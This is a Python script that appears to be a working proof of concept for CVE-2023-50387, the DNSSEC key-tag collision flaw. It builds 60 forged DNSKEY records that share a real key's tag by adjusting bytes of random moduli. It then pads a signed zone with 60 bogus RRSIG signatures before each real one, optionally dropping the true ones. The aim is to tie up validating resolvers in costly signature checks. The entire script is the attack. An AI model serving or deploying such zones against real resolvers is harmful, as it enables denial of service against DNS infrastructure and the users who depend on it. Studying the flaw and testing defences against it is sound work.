#!/usr/bin/env python3
"""Makes a zone that costs its validators dear: many keys with one tag, many signatures that fit none of them (CVE-2023-50387).

    colliding_keys.py keys KEY-FILE      prints 60 DNSKEY records that have the tag of the key in KEY-FILE
    colliding_keys.py keys|bogus ZONE    prints the signed ZONE with 60 false signatures before each; bogus leaves out the true ones

The moduli are made up: to check a signature takes as long with these as with any other, and nobody must know their factors.
"""

import base64
import random
import sys

COUNT = 60
HEAD = bytes([1, 1, 3, 8, 3, 1, 0, 1])  # flags 257, protocol 3, RSASHA256; exponent 65537


def tag(data):
    """RFC 4034, appendix B."""
    total = sum(byte if at % 2 else byte << 8 for at, byte in enumerate(data))
    return total + (total >> 16) & 0xFFFF


def key_with_tag(wanted, generator):
    while True:
        modulus = bytearray(generator.randbytes(256))
        modulus[0] |= 0x80
        modulus[-1] |= 1
        modulus[100:102] = bytes(2)
        missing = (wanted - tag(HEAD + modulus)) % 65535
        for word in (missing, missing + 1):
            modulus[100:102] = (word & 0xFFFF).to_bytes(2, "big")
            if tag(HEAD + modulus) == wanted:
                return HEAD + bytes(modulus)


def text_of(data):
    return base64.b64encode(data).decode()


def print_keys(line, generator):
    fields = line.split(";")[0].split()
    at = fields.index("DNSKEY")
    flags, protocol, algorithm = map(int, fields[at + 1:at + 4])
    wanted = tag(flags.to_bytes(2, "big") + bytes([protocol, algorithm]) + base64.b64decode("".join(fields[at + 4:])))
    for _ in range(COUNT):
        print(f"{fields[0]} DNSKEY 257 3 8 {text_of(key_with_tag(wanted, generator)[4:])}")


def print_zone(lines, is_bogus, generator):
    for line in lines:
        fields = line.split()
        if "RRSIG" not in fields[:4]:
            print(line, end="")
            continue
        at = fields.index("RRSIG")
        for _ in range(COUNT):
            print(*fields[:at + 9], text_of(b"\0" + generator.randbytes(255)))
        if not is_bogus or fields[at + 1] == "DNSKEY":
            print(line, end="")


def main(how, file):
    generator = random.Random(50387)
    with open(file) as lines:
        if file.endswith(".key"):
            print_keys(lines.readline(), generator)
        else:
            print_zone(lines, how == "bogus", generator)


main(*sys.argv[1:])
